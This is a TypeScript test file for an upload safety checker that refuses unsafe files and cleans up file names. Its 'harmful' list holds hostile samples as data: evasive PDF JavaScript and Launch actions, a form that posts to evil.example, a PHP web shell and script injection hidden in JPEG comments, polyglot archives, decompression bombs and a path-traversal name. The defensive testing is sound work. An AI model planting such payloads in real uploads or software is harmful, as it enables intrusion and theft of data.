import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { trial } from '../internal/testing/trial.ts';
import { samplePdf, samplePng } from '../scenarios/sample-files.ts';
import { cast } from '../seed/cast.ts';
import { dangerIn } from './danger.ts';
import { fileName } from './file-name.ts';
import { sniff } from './sniff.ts';

type Part = string | readonly number[] | Uint8Array;
const bytes = (...parts: readonly Part[]): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(parts.flatMap((part) => Array.from(typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

const pdf = (...inside: readonly Part[]) => bytes('%PDF-1.7\n', ...inside, '\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const packed = (objects: string, head = '/Filter/FlateDecode'): Uint8Array<ArrayBuffer> =>
  bytes(`5 0 obj<</Type/ObjStm/N 1/First 4${head}>>stream\n`, deflateSync(Buffer.from(objects)), '\nendstream endobj');
const segment = (marker: number, content: Part): readonly number[] => {
  const inside = bytes(content);
  const length = inside.length + 2;
  return [0xff, marker, length >> 8, length & 255, ...inside];
};
const frame = (width: number, height: number): readonly number[] =>
  segment(0xc0, [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
const jpeg = (...inside: readonly Part[]) => bytes([0xff, 0xd8], ...inside, [0xff, 0xd9]);
const png = (width: number, height: number) => {
  const file = Uint8Array.from(samplePng);
  const view = new DataView(file.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  return file;
};
// Stored, not packed, so that the whole archive is one text.
const archive = bytes('PK\u0003\u0004', new Uint8Array(26), 'PK\u0005\u0006', new Uint8Array(18));
const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

test.each<readonly [string, Uint8Array<ArrayBuffer>]>([
  ['a plain PDF', samplePdf],
  ['a PDF that opens at its first page', pdf('1 0 obj<</OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>>>endobj')],
  ['a PDF with packed objects', pdf(packed('1 0 <</Type/Catalog/Pages 2 0 R>>'))],
  ['a PDF that speaks of scripts', pdf('1 0 obj(JavaScript and Launch are words here)endobj')],
  ['a picture', samplePng],
  ['a large photograph', jpeg(frame(12_000, 9_000))],
  [
    'a photograph with what cameras write',
    jpeg(segment(0xe1, '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/>'), frame(10, 10)),
  ],
])('%s is accepted', async (_, file) => {
  expect(await dangerIn(file, sniff(file)!)).toBeUndefined();
});

const harmful: readonly (readonly [string, Uint8Array<ArrayBuffer>])[] = [
  ['a PDF with a script', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
  ['a PDF with a script under another spelling', pdf('1 0 obj<</S/J#61vaScript/JS(1)>>endobj')],
  ['a PDF with a packed script', pdf(packed('1 0 <</S/JavaScript/JS(app.alert(1))>>'))],
  ['a PDF with a packed script under another spelling', pdf(packed('1 0 <</S/Java#53cript/JS(1)>>'))],
  ['a PDF whose packing is hidden', pdf('5 0 obj<</Type/Obj#53tm/N 1/First 4>>stream\n1 0 <<>>\nendstream endobj')],
  ['a PDF packed in an unusual way', pdf(packed('1 0 <<>>', '/Filter[/ASCIIHexDecode/FlateDecode]'))],
  ['a PDF packed and turned over', pdf(packed('1 0 <<>>', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>'))],
  ['a PDF whose packing is broken', pdf('5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nrubbish\nendstream endobj')],
  ['a PDF that unpacks without end', pdf(packed(' '.repeat(40 * 1024 * 1024)))],
  ['a PDF that starts a program', pdf('1 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
  ['a PDF with a file inside', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
  ['a PDF with a form that sends itself', pdf('1 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj')],
  ['a PDF with a form of scripts', pdf('1 0 obj<</AcroForm<</XFA[(a)2 0 R]>>>>endobj')],
  ['a PDF with a password', pdf('1 0 obj<</Filter/Standard>>endobj trailer<</Encrypt 1 0 R>>')],
  ['a PDF with the test file of virus scanners', pdf(`1 0 obj(${eicar})endobj`)],
  ['a PDF that is an archive as well', pdf(archive)],
  ['a PDF whose end is the comment of an archive', bytes('%PDF-1.4\n', archive.slice(0, -2), [6, 0], '%%EOF\n')],
  ['a picture that is an archive as well', jpeg(frame(10, 10), segment(0xfe, archive))],
  ['a picture that is an archive of another kind', jpeg(frame(10, 10), segment(0xfe, 'Rar!\u001a\u0007\u0000'))],
  ['a picture that is a page', jpeg(frame(10, 10), segment(0xfe, '<!DOCTYPE html><ScRiPt>alert(1)</sCrIpT>'))],
  ['a picture that is a program of a server', jpeg(frame(10, 10), segment(0xfe, '<?php system($_GET[0]); ?>'))],
  ['a picture that is a drawing', jpeg(frame(10, 10), segment(0xfe, '<svg onload=alert(1)>'))],
  ['a picture that is a PDF', jpeg(frame(10, 10), segment(0xfe, '%PDF-1.4 x %%EOF'))],
  ['a PNG of an absurd width', png(4_000_000_000, 1)],
  ['a PNG of absurdly many points', png(29_000, 29_000)],
  ['a JPEG of an absurd size', jpeg(frame(65_535, 65_535))],
];

test.each(harmful)('%s is refused', async (_, file) => {
  const type = sniff(file);
  expect(type).toBeDefined();
  expect(await dangerIn(file, type!)).toBeDefined();
});

test('what is harmful is refused at the door, and nothing of it is kept', async () => {
  const at = await trial('transfer/draft');
  for (const [name, file] of harmful) {
    const answer = await at.upload(cast.routeC.member, at.dossierId, new Blob([file], { type: sniff(file)! }));
    expect([name, answer.status, answer.body.code]).toEqual([name, 415, 'FILE_UNSAFE']);
  }
  for (const file of [eicar, '<svg xmlns="http://www.w3.org/2000/svg"/>', archive, 'GIF89a', 'MZ'])
    expect((await at.upload(cast.routeC.member, at.dossierId, new Blob([file]))).body.code).toBe('FILE_TYPE');
  expect(await at.store.read((reader) => reader.attachments(at.dossierId))).toEqual([]);
});

test.each([
  ['NUL', 'tep-NUL.pdf'],
  ['con.pdf', 'tep-con.pdf'],
  ['com1.tar.pdf', 'tep-com1.tar.pdf'],
  ['conference.pdf', 'conference.pdf'],
  ['giấy. . .pdf', 'giấy.pdf'],
  ['. . .', 'tep.pdf'],
  ['a\u0000b\r\nc\u2028d.pdf', 'abcd.pdf'],
  ['\uD800x.pdf', 'x.pdf'],
  ['....//....//etc/passwd', 'passwd.pdf'],
  ['%2e%2e%2fa.pdf', '%2e%2e%2fa.pdf'],
  ['a'.repeat(300), `${'a'.repeat(190)}.pdf`],
  ['ữ'.repeat(300), `${'ữ'.repeat(80)}.pdf`],
  [`${'a'.repeat(189)}👩‍👩‍👧.pdf`, `${'a'.repeat(189)}👩.pdf`.replace('👩', '')],
  ['u\u031b\u0303.pdf', 'ữ.pdf'],
])('a name like %j becomes %j', (given, name) => {
  expect(fileName(given, 'application/pdf')).toBe(name);
  expect(() => encodeURIComponent(name)).not.toThrow();
});
